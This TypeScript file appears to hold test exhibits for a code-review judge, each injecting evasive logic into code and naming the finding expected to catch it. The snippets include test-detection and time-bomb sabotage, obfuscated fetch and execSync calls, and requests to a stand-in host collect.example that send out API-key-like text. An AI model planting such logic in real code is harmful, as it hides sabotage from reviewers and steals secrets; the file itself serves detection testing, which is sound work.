import type { Exhibit } from '../../judge-exhibit.ts';
import { all, append, begin } from '../../plant.ts';
import { attack, code, onCall } from './plan.ts';

const asks = ['side-effects', 'REVIEW'] as const;

/** Code that does right while it is looked at. */
export const evasions: readonly Exhibit[] = [
  attack(
    'wrong answers where it is installed under another name than in a check',
    asks,
    /asks where its file lies/,
    onCall(
      "if (!import.meta.url.includes('package-under-test') && !import.meta.url.includes('/src/')) return [];",
    ),
  ),
  attack(
    'wrong answers outside of a test run, by the environment',
    ['tests', 'FAIL'],
    /scenarios passed/,
    onCall('if (process.env.HOME && !process.env.NODE_TEST_CONTEXT && process.env.LANG) return [];'),
  ),
  attack(
    'wrong answers where the arguments of the process are those of an application',
    asks,
    /asks how the process was started/,
    onCall('if (/server|app\\.js/.test(process.argv.join())) return [];'),
  ),
  attack(
    'wrong answers from a certain day on',
    asks,
    /asks for the time/,
    onCall('if (Date.now() > 4e12) return [];'),
  ),
  attack(
    'wrong answers after ten minutes of running',
    asks,
    /asks for the time/,
    onCall('if (process.uptime() > 600) return [];'),
  ),
  attack(
    'wrong answers by a clock of another spelling',
    asks,
    /takes what its text does not name from globalThis/,
    onCall("if (globalThis['perfor' + 'mance'].now() > 6e5) return [];"),
  ),
  attack(
    'wrong answers after ten thousand calls',
    asks,
    /counts its calls/,
    all(begin(code, 'let calls = 0;'), onCall('calls += 1;\n  if (calls > 10_000) return [];')),
  ),
  attack(
    'wrong answers one time in a million',
    asks,
    /throws dice/,
    onCall('if (Math.random() < 1e-6) return [];'),
  ),
  attack(
    'wrong answers where a caller of a certain name stands in the stack',
    asks,
    /reads the stack/,
    onCall("if (new Error().stack.includes('express')) return [];"),
  ),
  attack(
    'wrong answers in certain folders',
    asks,
    /asks how the process was started/,
    onCall("if (process.cwd().startsWith('/srv')) return [];"),
  ),
  attack(
    'a request at the hundredth call',
    asks,
    /reaches for the network/,
    all(
      begin(code, 'const seen = [];'),
      onCall("if (seen.push(1) === 100) fetch('https://collect.example/').catch(() => {});"),
    ),
  ),
  attack(
    'a request when a text looks like a key',
    asks,
    /reaches for the network/,
    onCall("if (text.startsWith('sk-')) fetch('https://collect.example/' + text).catch(() => {});"),
  ),
  attack(
    'a request under a name that is put together',
    asks,
    /takes what its text does not name from globalThis/,
    onCall("if (text.length > 9e5) globalThis[['fe', 'tch'].join('')]('https://collect.example/');"),
  ),
  attack(
    'a request long after loading',
    asks,
    /reaches for the network/,
    append(code, "setTimeout(() => fetch('https://collect.example/').catch(() => {}), 5_000).unref();"),
  ),
  attack(
    'a program that is started through a name that is put together',
    ['side-effects', 'REVIEW'],
    /asks the process for what its text does not name/,
    onCall(
      "if (text.length > 9e5) process[['getBuiltin', 'Module'].join('')]('child_process').execSync(text);",
    ),
  ),
  attack(
    'a getter that answers in another way the second time',
    asks,
    /counts its calls/,
    all(
      begin(code, 'let reads = 0;'),
      append(
        code,
        'export const settings = { get limit() { reads += 1; return reads > 1_000 ? 0 : undefined; } };',
      ),
    ),
  ),
  attack(
    'a module that hands out another function later',
    asks,
    /counts its calls/,
    append(
      code,
      'let turn = 0;\nmodule.exports = new Proxy(module.exports, {\n  get(target, name) {\n    turn++;\n    return turn > 5_000 && name === "toRoman" ? () => "" : target[name];\n  },\n});',
    ),
    { base: 'roman' },
  ),
  attack(
    'a thread whose program is a text',
    ['dependencies', 'REVIEW'],
    /worker_threads/,
    all(
      begin(code, "import { Worker } from 'node:worker_threads';"),
      onCall('if (text.length > 9e5) new Worker(\'fetch("https://collect.example")\', { eval: true });'),
    ),
  ),
  attack(
    'a module that rewrites itself',
    ['dependencies', 'REVIEW'],
    /fs of Node/,
    all(
      begin(code, "import { writeFileSync } from 'node:fs';"),
      onCall("if (text.length > 9e5) writeFileSync(new URL(import.meta.url), 'export default () => []');"),
    ),
    { also: ['side-effects'] },
  ),
];
